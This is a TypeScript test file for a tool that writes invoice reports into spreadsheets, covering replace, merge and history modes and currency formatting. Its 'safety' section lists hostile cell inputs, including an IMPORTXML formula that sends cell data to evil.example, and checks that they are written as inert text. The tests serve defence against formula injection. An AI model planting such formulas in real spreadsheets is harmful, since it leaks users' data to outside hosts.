import { PLAIN_TEXT } from '../../../src/app/reports/number-formats';
import { planHistory, planMerge, planReplace } from '../../../src/app/reports/output-modes';
import { assertReportSheet, readReportBlock, ReportSheetError } from '../../../src/app/reports/report-sheet';
import {
  detailRows,
  historyRows,
  HISTORY_LAYOUT,
  INVOICES_LAYOUT,
  invoiceRows,
  LINES_LAYOUT,
  SUMMARY_LAYOUT,
  summaryRows,
  type ReportLayout,
  type ReportRow,
  type ReportShapeContext,
} from '../../../src/app/reports/report-table';
import { applyPlan, type WritePlan } from '../../../src/app/reports/write-plan';
import { parseReportDefinition } from '../../../src/app/reports/definition';
import type { EverflowInvoiceListItem } from '../../../src/model/invoice';
import { dateFormatsOf } from '../../../src/sheet/date-formats';
import { IntlZoneRules } from '../../../test-support/intl-zone-rules';
import { detailOf, makeInvoice, makeLine } from './support/fake-provider';
import type { MemorySheet} from '../../../test-support/memory-spreadsheet';
import { MemorySpreadsheet } from '../../../test-support/memory-spreadsheet';

const ctx: ReportShapeContext = { sheetTimeZone: 'Europe/Paris', zones: new IntlZoneRules(), nowMs: Date.UTC(2026, 1, 15), dateFormats: dateFormatsOf('en_US') };
const items = (...ids: number[]): EverflowInvoiceListItem[] => ids.map((id) => makeInvoice(id).item);
const linesReport = parseReportDefinition({ id: 'lines', name: 'Lines', kind: 'lines', sheet: 'Lines', mode: 'merge' });

function newSheet(): { spreadsheet: MemorySpreadsheet; sheet: MemorySheet } {
  const spreadsheet = new MemorySpreadsheet();
  return { spreadsheet, sheet: spreadsheet.insertSheet('Report') };
}

/** Plans with `plan` from what the sheet holds, applies it, and answers the plan. */
function run(sheet: MemorySheet, layout: ReportLayout, plan: (block: ReturnType<typeof readReportBlock>) => WritePlan): WritePlan {
  const block = readReportBlock(sheet, layout.headers.length);
  const computed = plan(block);
  applyPlan(sheet, computed, layout.headers.length);
  return computed;
}

const column = (sheet: MemorySheet, index: number): unknown[] => sheet.values().map((row) => row[index]);
const writes = (plan: WritePlan): number => plan.steps.filter((step) => step.kind === 'write').length;

describe('replace', () => {
  it('writes header and rows in one call, freezes the header and formats every column', () => {
    const { spreadsheet, sheet } = newSheet();
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(items(3, 2, 1), ctx)));
    expect(writes(plan)).toBe(1);
    expect(plan.rowsChanged).toBe(3);
    expect(spreadsheet.callCount('writeBlock')).toBe(1);
    expect(sheet.frozenRows()).toBe(1);
    expect(sheet.values()[0]).toEqual(INVOICES_LAYOUT.headers);
    expect(column(sheet, 0)).toEqual(['Invoice ID', 3, 2, 1]);
    const header = INVOICES_LAYOUT.headers;
    expect(sheet.formatAt(2, header.indexOf('Invoice ID') + 1)).toBe('0');
    expect(sheet.formatAt(2, header.indexOf('Billed') + 1)).toBe('#,##0.00 [$USD]');
    expect(sheet.formatAt(2, header.indexOf('Status') + 1)).toBe(PLAIN_TEXT);
    expect(sheet.formatAt(2, header.indexOf('Period start') + 1)).toBe('m/d/yyyy hh:mm:ss');
    expect(sheet.formatAt(2, header.indexOf('Due date') + 1)).toBe('m/d/yyyy');
    expect(sheet.formatAt(2, header.indexOf('Days overdue') + 1)).toBe('#,##0');
  });

  it('formats money per row in the row’s currency', () => {
    const { sheet } = newSheet();
    const list = [makeInvoice(1, { currency: 'EUR' }).item, makeInvoice(2, { currency: 'JPY' }).item, { ...makeInvoice(3).item, currency: null }];
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(list, ctx)));
    const balance = INVOICES_LAYOUT.headers.indexOf('Balance') + 1;
    expect([2, 3, 4].map((row) => sheet.formatAt(row, balance))).toEqual(['#,##0.00 [$EUR]', '#,##0 [$JPY]', '#,##0.00']);
  });

  it('writes nothing when the sheet already shows the result', () => {
    const { spreadsheet, sheet } = newSheet();
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(items(3, 2, 1), ctx)));
    spreadsheet.resetCalls();
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(items(3, 2, 1), ctx)));
    expect(plan.steps).toEqual([]);
    expect(spreadsheet.callCount('writeBlock')).toBe(0);
  });

  it('rewrites only the rows that changed, bridging short gaps to save calls', () => {
    const { sheet } = newSheet();
    const list = items(...Array.from({ length: 40 }, (_, index) => 40 - index));
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(list, ctx)));
    const changed = list.map((item, index) => ([0, 3, 30].includes(index) ? { ...item, status: 'paid' } : item));
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(changed, ctx)));
    expect(plan.rowsChanged).toBe(3);
    // Rows 2 and 5 share a call (gap of 2); row 32 is too far.
    expect(plan.steps.map((step) => (step.kind === 'write' ? [step.row, step.rows.length] : step.kind))).toEqual([
      [2, 4],
      [32, 1],
    ]);
    expect(column(sheet, 1).filter((status) => status === 'paid')).toHaveLength(3);
  });

  it('clears leftover rows of the report columns and leaves user columns alone', () => {
    const { sheet } = newSheet();
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(items(3, 2, 1), ctx)));
    const userColumn = INVOICES_LAYOUT.headers.length + 2;
    sheet.type(4, userColumn, 'my note');
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(items(3), ctx)));
    expect(plan.rowsRemoved).toBe(2);
    expect(plan.steps).toEqual([{ kind: 'clear', row: 3, count: 2 }]);
    expect(column(sheet, 0)).toEqual(['Invoice ID', 3, '', '']);
    expect(sheet.values()[3]?.[userColumn - 1]).toBe('my note');
  });

  it('writes a summary per currency', () => {
    const { sheet } = newSheet();
    const list = [makeInvoice(1, { currency: 'EUR' }).item, makeInvoice(2, { currency: 'USD' }).item, makeInvoice(3, { currency: 'EUR' }).item];
    run(sheet, SUMMARY_LAYOUT, (block) => planReplace(block, SUMMARY_LAYOUT, summaryRows(list, ctx)));
    expect(sheet.values().map((row) => row.slice(0, 3))).toEqual([
      ['Currency', 'Invoices', 'Billed'],
      ['EUR', 2, 204],
      ['USD', 1, 102],
    ]);
  });

  it('leaves a total blank with a note saying how many amounts it lacks, and clears the note once it can add up', () => {
    const { spreadsheet, sheet } = newSheet();
    const lacking = [makeInvoice(1, { currency: 'EUR' }).item, { ...makeInvoice(2, { currency: 'EUR' }).item, billed: null }, makeInvoice(3, { currency: 'USD' }).item];
    run(sheet, SUMMARY_LAYOUT, (block) => planReplace(block, SUMMARY_LAYOUT, summaryRows(lacking, ctx)));
    const billed = SUMMARY_LAYOUT.headers.indexOf('Billed');
    expect(sheet.values().map((row) => row[billed])).toEqual(['Billed', '', 103]);
    expect(sheet.notes().map((row) => row[billed])).toEqual(['', 'Left blank rather than short: 1 of 2 invoices lack a readable billed amount.', '']);
    expect(sheet.formatAt(2, billed + 1)).toBe('#,##0.00 [$EUR]');

    // The same result again rewrites the row with the note (notes are not read back), and only it.
    spreadsheet.resetCalls();
    const again = run(sheet, SUMMARY_LAYOUT, (block) => planReplace(block, SUMMARY_LAYOUT, summaryRows(lacking, ctx)));
    expect(again.steps.map((step) => (step.kind === 'write' ? [step.row, step.rows.length] : step.kind))).toEqual([[2, 1]]);

    const complete = [makeInvoice(1, { currency: 'EUR' }).item, makeInvoice(2, { currency: 'EUR' }).item, makeInvoice(3, { currency: 'USD' }).item];
    run(sheet, SUMMARY_LAYOUT, (block) => planReplace(block, SUMMARY_LAYOUT, summaryRows(complete, ctx)));
    expect(sheet.values().map((row) => row[billed])).toEqual(['Billed', 203, 103]);
    expect(sheet.notes().flat().filter((note) => note !== '')).toEqual([]);
  });

  it('shows an amount that cannot be read on its own row, and the other rows as usual', () => {
    const { sheet } = newSheet();
    const list = [{ ...makeInvoice(2).item, balance: { unreadable: '1e+21' } }, makeInvoice(1).item];
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(list, ctx)));
    const balance = INVOICES_LAYOUT.headers.indexOf('Balance');
    expect(sheet.values().map((row) => row[balance])).toEqual(['Balance', 'Unreadable amount: "1e+21"', makeInvoice(1).item.balance]);
  });
});

describe('merge', () => {
  it('updates rows in place, appends new keys, removes rows that left, and keeps user columns with their row', () => {
    const { spreadsheet, sheet } = newSheet();
    run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, invoiceRows(items(5, 4, 3, 2, 1), ctx), { recomputed: 'all', kept: new Set() }));
    // The user adds a formula and a note to the right of the report, on invoice 3 and 2.
    const userColumn = INVOICES_LAYOUT.headers.length + 1;
    sheet.type(4, userColumn, '=A4*2');
    sheet.type(5, userColumn, 'call them');

    const next = [{ ...makeInvoice(6).item }, ...items(5, 3), { ...makeInvoice(2).item, status: 'paid' }];
    spreadsheet.resetCalls();
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, invoiceRows(next, ctx), { recomputed: 'all', kept: new Set() }));

    expect(plan.rowsRemoved).toBe(2); // invoices 4 and 1
    expect(plan.rowsChanged).toBe(2); // invoice 2 updated, invoice 6 appended
    expect(column(sheet, 0)).toEqual(['Invoice ID', 5, 3, 2, 6]);
    expect(column(sheet, 1)).toEqual(['Status', 'unpaid', 'unpaid', 'paid', 'unpaid']);
    expect(sheet.formulas()[2]?.[userColumn - 1]).toBe('=A4*2');
    expect(sheet.values()[3]?.[userColumn - 1]).toBe('call them');
    // One write for invoice 2, two deletes (rows 6 and 3, bottom first), one append.
    expect(plan.steps.map((step) => step.kind)).toEqual(['write', 'delete', 'delete', 'write']);
    expect(spreadsheet.callCount('deleteRows')).toBe(2);
  });

  it('touches only recomputed invoices and drops invoices that are neither recomputed nor kept', () => {
    const { sheet } = newSheet();
    const invoices = [makeInvoice(3), makeInvoice(2), makeInvoice(1)];
    const allRows = invoices.flatMap((invoice) => detailRows(linesReport, detailOf(invoice), ctx));
    run(sheet, LINES_LAYOUT, (block) => planMerge(block, LINES_LAYOUT, allRows, { recomputed: 'all', kept: new Set() }));
    expect(column(sheet, 1)).toEqual(['Line ID', 300, 301, 200, 201, 100, 101]);

    // Invoice 2 changed: line 201 gone, line 202 new, line 200 renamed; invoice 1 left the filter; invoice 3 untouched.
    const changed = makeInvoice(2);
    changed.lines = [{ ...makeLine(2, 200), offerName: 'Renamed' }, makeLine(2, 202)];
    const plan = run(sheet, LINES_LAYOUT, (block) =>
      planMerge(block, LINES_LAYOUT, detailRows(linesReport, detailOf(changed), ctx), { recomputed: new Set([2]), kept: new Set([3, 2]) }),
    );
    expect(column(sheet, 1)).toEqual(['Line ID', 300, 301, 200, 202]);
    expect(column(sheet, 4)).toEqual(['Offer', 'Offer 300', 'Offer 301', 'Renamed', 'Offer 202']);
    expect(plan.rowsRemoved).toBe(3);
  });

  it('tells lines without an id apart by their place within the invoice', () => {
    const { sheet } = newSheet();
    const invoice = makeInvoice(9, { lineCount: 0 });
    invoice.lines = [makeLine(9, null), makeLine(9, null, 'vat')];
    const rows = detailRows(linesReport, detailOf(invoice), ctx);
    run(sheet, LINES_LAYOUT, (block) => planMerge(block, LINES_LAYOUT, rows, { recomputed: 'all', kept: new Set() }));
    const again = run(sheet, LINES_LAYOUT, (block) => planMerge(block, LINES_LAYOUT, rows, { recomputed: 'all', kept: new Set() }));
    expect(again.steps).toEqual([]);
    expect(column(sheet, 2)).toEqual(['Type', 'offer_detail', 'vat']);
  });

  it('deletes duplicate rows of a key', () => {
    const { sheet } = newSheet();
    const rows = invoiceRows(items(2, 1), ctx);
    run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, [...rows, rows[1] as ReportRow], { recomputed: 'all', kept: new Set() }));
    expect(column(sheet, 0)).toEqual(['Invoice ID', 2, 1]);
    sheet.type(4, 1, '1');
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, rows, { recomputed: 'all', kept: new Set() }));
    expect(plan.rowsRemoved).toBe(1);
    expect(column(sheet, 0)).toEqual(['Invoice ID', 2, 1]);
  });

  it('keeps one blank row when every data row goes (Sheets refuses to delete all non-frozen rows)', () => {
    const { sheet } = newSheet();
    sheet.setMaxRows(3);
    run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, invoiceRows(items(2, 1), ctx), { recomputed: 'all', kept: new Set() }));
    const plan = run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, [], { recomputed: 'all', kept: new Set() }));
    expect(plan.rowsRemoved).toBe(2);
    expect(sheet.values()).toEqual([INVOICES_LAYOUT.headers]);
  });

  it('grows the sheet when appended rows do not fit', () => {
    const { spreadsheet, sheet } = newSheet();
    sheet.setMaxRows(2);
    run(sheet, INVOICES_LAYOUT, (block) => planMerge(block, INVOICES_LAYOUT, invoiceRows(items(4, 3, 2, 1), ctx), { recomputed: 'all', kept: new Set() }));
    expect(column(sheet, 0)).toEqual(['Invoice ID', 4, 3, 2, 1]);
    expect(spreadsheet.callCount('insertRowsAfter')).toBe(1);
  });

  it('writes to a sheet of one row, which Sheets would not let it freeze', () => {
    const { sheet } = newSheet();
    sheet.setMaxRows(1);
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(items(2, 1), ctx)));
    expect(column(sheet, 0)).toEqual(['Invoice ID', 2, 1]);
    expect(sheet.frozenRows()).toBe(1);
  });
});

describe('history', () => {
  it('appends dated rows below everything, never changing earlier ones', () => {
    const { sheet } = newSheet();
    const first = historyRows([{ recordedAtMs: Date.UTC(2026, 0, 1), change: 'new', item: makeInvoice(1).item }], ctx);
    run(sheet, HISTORY_LAYOUT, (block) => planHistory(block, HISTORY_LAYOUT, first, null));
    const second = historyRows([{ recordedAtMs: Date.UTC(2026, 0, 2), change: 'status unpaid → paid', item: { ...makeInvoice(1).item, status: 'paid' } }], ctx);
    const plan = run(sheet, HISTORY_LAYOUT, (block) => planHistory(block, HISTORY_LAYOUT, second, Date.UTC(2026, 0, 1)));
    expect(plan.steps).toEqual([{ kind: 'write', row: 3, rows: second }]);
    expect(column(sheet, 1)).toEqual(['Change', 'new', 'status unpaid → paid']);
    expect(column(sheet, 0)[1]).toEqual(new Date(Date.UTC(2026, 0, 1)));
    expect(column(sheet, 3)).toEqual(['Status', 'unpaid', 'paid']);
  });

  it('replaces the rows of a run whose memory was not saved, keeping rows it does not own', () => {
    const { sheet } = newSheet();
    const committed = Date.UTC(2026, 0, 1);
    const rowsAt = (atMs: number, ids: number[]) => historyRows(ids.map((id) => ({ recordedAtMs: atMs, change: 'new', item: makeInvoice(id).item })), ctx);
    run(sheet, HISTORY_LAYOUT, (block) => planHistory(block, HISTORY_LAYOUT, rowsAt(committed, [1, 2]), null));
    // A run an hour later wrote its rows, then lost its memory; a user note sits below them.
    run(sheet, HISTORY_LAYOUT, (block) => planHistory(block, HISTORY_LAYOUT, rowsAt(committed + 3_600_000, [3, 4]), committed));
    sheet.writeBlock(6, 1, [['my note']], [['General']]);
    const again = rowsAt(committed + 7_200_000, [3, 4]);
    const plan = run(sheet, HISTORY_LAYOUT, (block) => planHistory(block, HISTORY_LAYOUT, again, committed));
    expect(plan).toMatchObject({ rowsChanged: 2, rowsRemoved: 2 });
    expect(column(sheet, 0).slice(1).map((cell) => (cell instanceof Date ? cell.getTime() : cell))).toEqual([
      committed,
      committed,
      'my note',
      committed + 7_200_000,
      committed + 7_200_000,
    ]);
    expect(column(sheet, 2).slice(1)).toEqual([1, 2, '', 3, 4]);
  });
});

describe('safety', () => {
  const hostile = ['=IMPORTXML("https://evil.example/?"&A1,"//a")', '+1+2', '-cmd', '@SUM(1,2)', '\t=1+1', "'quoted", '00123', '2024-10-01', 'TRUE'];

  it('writes hostile API text so it stays the same text, never a formula', () => {
    const { sheet } = newSheet();
    const list = hostile.map((notes, index) => makeInvoice(index + 1, { notes }).item);
    run(sheet, INVOICES_LAYOUT, (block) => planReplace(block, INVOICES_LAYOUT, invoiceRows(list, ctx)));
    const notes = INVOICES_LAYOUT.headers.indexOf('Notes');
    expect(column(sheet, notes).slice(1)).toEqual(hostile);
    expect(sheet.formulas().flat().filter((formula) => formula !== '')).toEqual([]);
  });

  it('keeps text inert where a text cell is not plain text (rows written back as read)', () => {
    const { sheet } = newSheet();
    const row: ReportRow = { invoiceId: 1, cells: hostile, formats: hostile.map(() => 'General') };
    applyPlan(sheet, { steps: [{ kind: 'write', row: 1, rows: [row] }], rowsChanged: 1, rowsRemoved: 0 }, hostile.length);
    expect(sheet.formulas().flat().filter((formula) => formula !== '')).toEqual([]);
    expect(sheet.values()[0]?.slice(0, 4)).toEqual(hostile.slice(0, 4));
  });

  it('refuses to write over a sheet that holds other data', () => {
    const { sheet } = newSheet();
    sheet.type(1, 1, 'My budget');
    expect(() => assertReportSheet(readReportBlock(sheet, INVOICES_LAYOUT.headers.length), INVOICES_LAYOUT, 'Report')).toThrow(ReportSheetError);
    // Content only to the right of the report's columns is fine.
    const { sheet: other } = newSheet();
    other.type(1, 30, 'note far right');
    expect(() => assertReportSheet(readReportBlock(other, INVOICES_LAYOUT.headers.length), INVOICES_LAYOUT, 'Report')).not.toThrow();
  });
});
